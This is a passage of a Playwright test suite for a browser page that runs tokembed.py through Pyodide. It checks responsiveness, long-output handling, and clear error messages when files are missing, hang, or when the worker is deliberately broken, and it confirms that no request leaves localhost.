        `a held arrow key ran ${JSON.stringify(held.runs)}`);
  check(held.slowest <= most2, `a key press took ${held.slowest} ms to show ` +
        `(at most ${Math.round(most2)})`);
  // A view still running when a control changes is superseded: only the latest shows.
  await page.evaluate(() => { window.tokembedPage.events.length = 0; });
  await page.fill("#seed", "9");
  await page.selectOption("#view", "--train");
  await page.waitForFunction(() => window.tokembedPage.runs.some((a) => a[0] === "--train" &&
                                                                     a.includes("9")));
  await page.selectOption("#view", "--context");
  await settled(page);
  const last2 = await page.evaluate(() => ({
    outputs: window.tokembedPage.events.filter(([n]) => n === "output").map(([, , a]) => a),
    command: document.getElementById("command").textContent,
    long: window.__longest }));
  check(last2.outputs.every((argv) => argv[0] !== "--train") &&
        last2.command === "python3 tokembed.py --context --seed 9",
        `a superseded --train still showed: ${JSON.stringify(last2)}`);
  check(Math.max(0, ...last2.long.map(([, ms]) => ms)) <= most2, `a main-thread task of ` +
        `${JSON.stringify(last2.long)} ms while --train ran (at most ${Math.round(most2)})`);
  // A keystroke that asks for a very long answer (60 words x 16,384): no long task.
  await page.selectOption("#view", "");
  await page.fill("#text", "my order is late refund ".repeat(12).trim());
  await settled(page);
  await page.evaluate(() => { window.tokembedPage.events.push(["keystroke", performance.now()]); });
  await page.fill("#d_model", "16384");
  await settled(page, 240000);
  const keyed = await page.evaluate(() => ({ cut: document.getElementById("cut-text").textContent,
    shown: document.getElementById("output").textContent.length,
    whole: window.tokembedPage.shown.output.length }));
  const keyLong = await longAfter(page, "keystroke");
  check(keyLong <= most2 && keyed.shown < keyed.whole && /first [\d,]+ lines/.test(keyed.cut),
        `d_model 16384 for 60 words: a ${keyLong} ms task (at most ${Math.round(most2)}), ` +
        `shows ${keyed.shown} of ${keyed.whole} characters, says "${keyed.cut}"`);
  console.log(`page: a keystroke for 60 words x 16,384: longest main-thread task ${keyLong} ms ` +
              `(at most ${Math.round(most2)}), ` +
              `${keyed.whole.toLocaleString("en-US")} characters, ` +
              `${keyed.shown.toLocaleString("en-US")} shown`);
  done("budgets: first paint, first output, no long task, a held key, a superseded view, " +
       "a keystroke for a long answer");

  // Answers too long to show whole, from links: each settles, shows its start (the
  // very bytes python3 printed) and says what it left out, and saves the whole; it
  // comes in parts, and no task is long once Python is ready; the page's own address
  // stays within what the server takes.
  const long = await context({ viewport: { width: 1366, height: 900 }, acceptDownloads: true });
  await long.route((url) => url.href.length > 60000, (route) => route.fulfill({
    contentType: "text/html", body: served("index.html") }));  // longer than http.server takes
  await long.addInitScript(() => {  // each message from Python's worker: its kind and size
    window.__messages = [];
    window.Worker = class extends window.Worker {
      constructor(...args) {
        super(...args);
        this.addEventListener("message", ({ data }) =>
          window.__messages.push([data.kind, data.out?.length ?? 0]));
      }
    };
  });
  const PART = 2 ** Number(/const PART = 1 << (\d+);/.exec(served("worker.js"))[1]);
  const most3 = await budget();
  for (const [k, state] of big.entries()) {
    const page = await long.newPage();
    watch(page);
    const errors = [];
    page.on("pageerror", (error) => errors.push(error.message));
    await page.goto(at(state.query));
    await settled(page, 240000);
    const slowest = await longAfter(page, "ready");  // before the whole is read out of the page
    const sizes = (await page.evaluate(() => window.__messages))
      .filter(([kind]) => kind === "part" || kind === "result").map(([, size]) => size);
    const seen = await shown(page);
    const expected = read(`big-${k}.out`);
    const where = `${state.command.slice(0, 70)}… (${expected.length.toLocaleString("en-US")} ` +
      "characters)";
    // the 10,000 x's: their 10,000 IDs are shown whole, each linked to its place
    const whole = expected.length <= SHOW_CHARS && expected.split("\n").length - 1 <= SHOW_LINES;
    if (whole) {
      const strip = await painted(page);
      check(seen.output === expected && seen.whole === expected && !seen.cut,
            `${where}: shows ${seen.output.length} characters, not all that python3 prints, ` +
            `and says "${seen.cut}"`);
      linked(strip, where, seen.tokens?.ids ?? []);
    } else {
      check(seen.whole === expected && seen.output.length < expected.length &&
            expected.startsWith(seen.output) && seen.output.length > 1000,
            `${where}: shows ${seen.output.length} characters, not the start of what ` +
            "python3 prints");
      check(/first [\d,]+ lines .* of the [\d,]+ lines/.test(seen.cut) &&
            /run the command/.test(seen.cut),
            `${where}: says "${seen.cut}" of what it left out`);
    }
    check(seen.command === state.command && (seen.commandShown === state.command ||
          (state.command.startsWith(seen.commandShown.slice(0, -1)) &&
           seen.commandShown.endsWith("…"))), `${where}: shows the command "${short(seen.command)}"`);
    check(slowest <= most3, `${where}: a main-thread task of ${slowest} ms once Python was ` +
          `ready (at most ${Math.round(most3)})`);
    check(Math.max(...sizes) <= PART && sizes.length >= Math.ceil(expected.length / PART),
          `${where}: came in ${sizes.length} messages, the largest of ${Math.max(...sizes)} ` +
          "characters");
    check(!errors.length, `${where}: threw ${errors}`);
    check(seen.path.length <= 8000, `${where}: its address is ${seen.path.length} characters`);
    console.log(`page: ${state.command.slice(0, 60)}…: ${seen.output.length.toLocaleString("en-US")} ` +
                `of ${expected.length.toLocaleString("en-US")} characters shown; ${sizes.length} ` +
                `messages; longest task once ready ${slowest} ms (at most ${Math.round(most3)})`);
    if (!whole) {
      const saved = await Promise.all([page.waitForEvent("download", { timeout: 30000 }),
                                       page.click("#save", { timeout: 30000 })])
        .then(async ([download]) => readFileSync(await download.path(), "utf8"), () => null);
      check(saved === expected, `${where}: saves something other than what python3 printed`);
    }
    if (k === 0) {  // the 10,000 x's: the address keeps the text's start, and says so
      const kept = new URLSearchParams(seen.url).get("text");
      check(/^x+$/.test(kept) && kept.length < 10000 && /first [\d,]+ of the 10,000 characters/
        .test(seen.linkNote), `a 10,000-character text: the address keeps ${kept.length}, ` +
        `and says "${seen.linkNote}"`);
      const again = await page.reload();  // the server takes the page's own address
      await settled(page, 240000);
      check(again.status() === 200 && (await shown(page)).command ===
            `python3 tokembed.py --tokens --d-model 48 -- ${kept}`,
            `reloading its own address: ${again.status()}`);
    }
    await page.close();
  }
  await long.close();
  done(`${big.length} long answers: 10,000 IDs linked, and the start of each too long to show ` +
       "whole, what is left out, a file of the whole, in parts, no long task, an address the " +
       "server takes");
  await servedVocabularies(budget);
  await made.close();
}

// --- 5. Failure paths end, each with one message and what to run; slow is not dead --------------
if (only(5)) {
  const made = await context();
  const readme = readFileSync(join(clone, "README.md"), "utf8");
  const held = await context();  // Pyodide's WebAssembly never arrives
  await held.route("**/pyodide.asm.wasm", () => {});
  // A fetch that hangs is given up after 30 s, but said so only once the worker is free:
  // it may be starting Python meanwhile, which a busy machine slows, with a dozen pages here.
  const patience = 30000 + 20 * bareTook;
  // took: from the start, or (with from) from the request for the file whose address
  // ends so, which a busy machine may make some seconds after the start
  const ended = async (url, what, { timeout = 15000, holdWasm = false, from = null } = {}) => {
    const page = await (holdWasm ? held : made).newPage();
    let started = Date.now();
    page.on("request", (request) => from && request.url().endsWith(from) &&
      (started = Date.now(), from = null));
    await page.goto(url);
    try {
      await page.waitForSelector("#status[data-state=error]", { timeout });
    } catch {
      check(false, `${url}: never ends within ${seconds(timeout)}, saying ` +
            `"${await page.textContent("#status")}"`);
    }
    const took = Date.now() - started;
    const after = await page.evaluate(() => ({
      status: document.getElementById("status").textContent,
      help: document.getElementById("help").textContent,
      commands: [...document.querySelectorAll("#help pre")].flatMap((pre) =>
        pre.textContent.split("\n")),
      enabled: !document.getElementById("text").disabled &&
               !document.getElementById("view").disabled,
      started: Object.keys(window.tokembedPage.timings),
      // (an option of a disabled select is off with it, and its select says why)
      silent: [...document.querySelectorAll(":disabled:not(select:disabled option)")]
        .filter((control) => {
          const note = document.getElementById(`${control.id}-note`)?.textContent;
          const panel = control.closest("#copying") &&
            document.getElementById("source").dataset.why;
          return !note && !panel;
        }).map((control) => control.id || control.name) }));
    check(what.test(after.status), `${url}: says "${after.status}"`);
    check(after.help.includes(SERVE), `${url}: does not say what serves the page`);
    const unsaid = after.commands.filter((line) => !readme.includes(`\n${line}`));
    check(!unsaid.length, `${url}: tells a learner to run what README.md does not: ${unsaid}`);
    check(after.enabled && !after.silent.length,
          `${url}: leaves controls disabled with no message: ${after.silent}`);
    if (holdWasm) {
      check(!after.started.some((step) => /^(compile|python|import):/.test(step)),
            `${url}: said so only once Pyodide had started: ${after.started}`);
    }
    await page.close();
    return took;
  };
  const docsOnly = await pythonServer(join(clone, ".docs"));
  // Under /late/, tokembed.py hangs; .docs/hang/ never answers; .docs/wasm404/ and
  // .docs/wasmhang/ are Pyodide's folder but for pyodide.asm.wasm, which is not found, or
  // never answered
  const hanging = createServer((request, response) => {
    let path = new URL(request.url, "http://x").pathname;
    const late = path.startsWith("/late/");
    if (late) path = path.slice("/late".length);
    if ((path === "/tokembed.py" && late) || path.startsWith("/.docs/hang/")) return;  // never
    const wasm = /^\/\.docs\/(wasm404|wasmhang)\/(.*)$/.exec(path);
    if (wasm?.[2] === "pyodide.asm.wasm") {
      return wasm[1] === "wasm404" ? response.writeHead(404, "File not found").end() : null;
    }
    if (wasm) path = `/.docs/pyodide/${wasm[2]}`;
    const file = join(clone, decodeURIComponent(path));
    if (!file.startsWith(clone) || !existsSync(file)) return response.writeHead(404).end();
    const types = { ".html": "text/html", ".js": "text/javascript", ".mjs": "text/javascript",
                    ".css": "text/css", ".wasm": "application/wasm" };
    response.writeHead(200, { "content-type": types[/\.[a-z]+$/.exec(file)?.[0]] ??
                              "application/octet-stream" });
    response.end(readFileSync(file));
  });
  await new Promise((resolve) => hanging.listen(0, "127.0.0.1", resolve));
  const slow = `http://127.0.0.1:${hanging.address().port}/.docs/index.html`;
  const late = `http://127.0.0.1:${hanging.address().port}/late/.docs/index.html`;

  // A worker.js with a fault put in, served in place of the real one
  const faulty = async (into, from, to) => {
    const body = served("worker.js");
    check(body.includes(from), `worker.js no longer has "${from}": update this check`);
    await into.route(/\/\.docs\/worker\.js$/, (route) => route.fulfill({
      contentType: "text/javascript", body: body.replace(from, to) }));
  };
  const hear = (page) => page.evaluate(() => ({
    status: document.getElementById("status").textContent,
    output: document.getElementById("output").dataset.why ?? "",
    failed: window.tokembedPage.failed, ready: document.body.dataset.ready,
    restarts: window.tokembedPage.restarts,
    workers: window.tokembedPage.events.filter(([what]) => what === "worker").length }));

  // A start that takes a while (a slow machine, many tabs): a step of 50 s with no
  // byte, longer than the 40 s that round two's watchdog allowed, is waited for.
  const slowStart = async () => {
    const waits = await context();
    await faulty(waits, `stepped("python", "Python");`,
                 `await new Promise((resolve) => setTimeout(resolve, 50_000)); stepped("python", "Python");`);
    const page = await waits.newPage();
    await page.goto(at(""));
    await page.waitForTimeout(45_000);
    const during = await page.evaluate(() => document.getElementById("progress").textContent);
    await settled(page, 240000).catch(() => {});
    const after = await hear(page);
    check(!after.failed && after.ready === "yes" && /s\. A slow machine/.test(during),
          `a 50 s step of loading: ${JSON.stringify(after)}, saying "${during}" meanwhile`);
    await waits.close();
  };
  // Four tabs loading at once, from a cold cache: each is waited for
  const fourTabs = async () => {
    const tabs = await context();
    const started = Date.now();
    const took = await Promise.all([0, 1, 2, 3].map(async () => {
      const page = await tabs.newPage();
      await page.goto(at("view=table"));
      await settled(page, 300000).catch(() => {});
      const after = await hear(page);
      check(!after.failed && after.ready === "yes", `one of four tabs at once: ${JSON.stringify(after)}`);
      return Date.now() - started;
    }));
    console.log(`page: four tabs loading at once were ready after ${took.map(seconds).join(", ")}`);
    await tabs.close();
  };
  // A view that hangs, and a worker that dies, with or without a word: each ends in a
  // message, which says which (a view too slow, or Python that stopped on its own), and a
  // fresh Python runs the next view. A dead worker is found without waiting RUN_LIMIT out;
  // on plain http from another machine (no Web Locks), one that closes without a word is
  // found at RUN_LIMIT, and the page says it cannot tell that from a view too slow.
  const stopped = async (word, how, within, classSite = null) => {
    const dies = await context({}, classSite?.base);
    await faulty(dies, "self.onmessage = async ({ data }) => {",
                 `self.onmessage = async ({ data }) => {\n  if (data.argv?.includes("${word}")) {${how}; return; }`);
    const page = await dies.newPage();
    await page.goto(classSite ? `${classSite.base}/.docs/index.html?pyodide=pyodide/`
                              : `${slow}?pyodide=pyodide/`);
    await settled(page, 240000).catch(() => {});
    const started = Date.now();
    await page.fill("#text", `my ${word}`);
    await page.waitForFunction(() => /stopped/.test(document.getElementById("output").dataset.why),
                               null, { timeout: within + 60000 }).catch(() => {});
    const after = await hear(page);
    const waited = Date.now() - started;
    const said = classSite ? new RegExp("^Python gave no answer for \\d+ s, so the page " +
        "stopped it\\. The view may be too slow here, or Python may have stopped: .* cannot " +
        "tell which\\. A fresh")
      : within ? /^The page stopped this view: it ran for more than \d+ s\. .*slower/
      : /^Python stopped while it ran this view \(its worker (closed|failed: .*died)\)\. A fresh/;
    check(said.test(after.output) && after.restarts === 1 &&
          after.workers === 2 && await page.isVisible("#retry"),
          `${word}: ended in ${JSON.stringify(after)}`);
    check(waited < within + 30000, `${word}: the page waited ${seconds(waited)} to say so`);
    await settled(page, 240000).catch(() => {});
    await page.fill("#text", "my order is late");
    await settled(page, 240000).catch(() => {});
    const next = await shown(page);
    check(next.output === read("page-1.out"), `${word}: the fresh Python printed ${next.output}`);
    console.log(`page: ${word}: stopped after ${seconds(waited)}, and a fresh Python went on`);
    await dies.close();
  };
  // No network (jsDelivr not answered): the message and its commands stay inside their
  // column on a phone, a laptop and a slide, and the README.md section it names is the one
  // that gives those commands
  const section = (title) => {  // a section of README.md, from its heading to the next
    const at = readme.search(new RegExp(`^#+ ${title}$`, "m"));
    return at < 0 ? "" : readme.slice(at).split(/\n(?=#+ )/)[0];
  };
  for (const [width, height] of [[375, 812], [1280, 800], [1920, 1080]]) {
    const offline = await context({ viewport: { width, height }, isMobile: width < 800 });
    await offline.route("https://cdn.jsdelivr.net/**", (route) => route.abort());  // first
    const page = await offline.newPage();
    await page.goto(`${base}/.docs/index.html`);
    await page.waitForSelector("#status[data-state=error]", { timeout: 15000 }).catch(() => {});
    const seen = await page.evaluate(() => {
      const column = document.querySelector(".news").getBoundingClientRect().right;
      const parts = [document.getElementById("status"), document.getElementById("help"),
                     ...document.querySelectorAll("#help *")];
      return { help: document.getElementById("help").textContent,
               commands: [...document.querySelectorAll("#help pre")].flatMap((pre) =>
                 pre.textContent.split("\n")),
               over: parts.filter((part) => part.getBoundingClientRect().right > column + 1 ||
                                            part.scrollWidth > part.clientWidth + 1)
                 .map((part) => `${part.tagName} ${part.textContent.slice(0, 40)}`),
               cut: document.documentElement.scrollWidth - innerWidth };
    });
    const named = /see README\.md, “([^”]+)”/.exec(seen.help)?.[1];
    const where = `offline, at ${width} x ${height}`;
    check(!seen.over.length && seen.cut <= 0, `${where}: the message runs out of its column ` +
          `(the page ${seen.cut} px too wide): ${seen.over.join("; ")}`);
    check(named && seen.commands.length >= 3 &&
          seen.commands.every((line) => section(named).includes(`\n${line}`)),
          `${where}: sends the reader to README.md's “${named}”, which does not give ` +
          `${seen.commands.join("; ")}`);
    await offline.close();
  }
  console.log("page: offline: its message, in its column at 375, 1280 and 1920 px, names " +
              "the README.md section that gives its commands");
  // Pyodide's WebAssembly not found: said at once, naming the file, before a bare page
  // would have started Python (alone, so that the other checks' load is not timed too)
  const missing = await ended(`${slow}?pyodide=wasm404/`,
    /^Pyodide .* from http:\S+\/wasm404\/pyodide\.asm\.wasm: the server answered 404 File/,
    { timeout: bareTook });
  console.log(`page: pyodide.asm.wasm not found: said after ${seconds(missing)}`);
  await Promise.all([
    ended(`file://${clone}/.docs/index.html`, /open as a file/),
    ended(`${docsOnly.base}/index.html?pyodide=pyodide/`, /tokembed\.py could not be fetched.*404/,
          { holdWasm: true }),
    ended(at("view=table").replace("pyodide=pyodide/", "pyodide=nowhere/"),
          /Pyodide .*could not be loaded from .*nowhere/),
    ended(`${slow}?pyodide=hang/`, /Pyodide .*did not arrive within 30 s/, { timeout: patience }),
    ended(`${late}?pyodide=pyodide/`, /tokembed\.py could not be fetched.*within 30 s/,
          { timeout: patience }),
    // Pyodide's WebAssembly never answered: said as the worker gives up on it, after its
    // own 30 s (Pyodide itself only logs it, and the page's watchdog waited 150 s)
    ended(`${slow}?pyodide=wasmhang/`,
          /^Pyodide .* from http:\S+\/wasmhang\/pyodide\.asm\.wasm: nothing arrived for 30 s\.$/,
          { timeout: patience, from: "/wasmhang/pyodide.asm.wasm" }).then((took) => {
      check(took <= 30000 + bareTook, `pyodide.asm.wasm never answered: said ` +
            `${seconds(took)} after it was asked for, not within 30 s and a bare start`);
      console.log(`page: pyodide.asm.wasm never answered: said ${seconds(took)} after it was ` +
                  "asked for");
    }),
    slowStart(),
    fourTabs(),
    stopped("STUCK", `const hold = new XMLHttpRequest(); hold.open("GET", new URL("hang/x", ` +
            `import.meta.url), false); try { hold.send(); } catch {}`, RUN_LIMIT),
    stopped("GONE", "self.close()", 0),
    classServer().then((site) => site && stopped("CLOSED", "self.close()", RUN_LIMIT, site)),
    stopped("DIED", `setTimeout(() => { throw new Error("the worker died"); })`, 0),
  ]);
  docsOnly.close();
  hanging.closeAllConnections?.();
  hanging.close();
  await made.close();
  await held.close();
  done("file://, a missing tokembed.py or pyodide.asm.wasm (at once), a bad Pyodide folder " +
       "and three fetches that hang each end in one message; a slow start and four tabs are waited for; a view " +
       "that hangs and a worker that dies are stopped, said, and replaced");
}

check(!outside.length, `sent requests away from 127.0.0.1: ${outside.join(", ")}`);
check(!attacked.length, `asked the attacker's server for ${attacked.join(", ")}`);
check(!elsewhere.length, `asked for another folder's code: ${elsewhere.join(", ")}`);
done("nothing left 127.0.0.1");
await browser.close();
attacker.close();
site.close();
classroom?.close();
console.log(`the page in Chromium: ${states.length} URL states and ${big.length} long answers, ` +
            "the same bytes as python3");
process.exit(0);
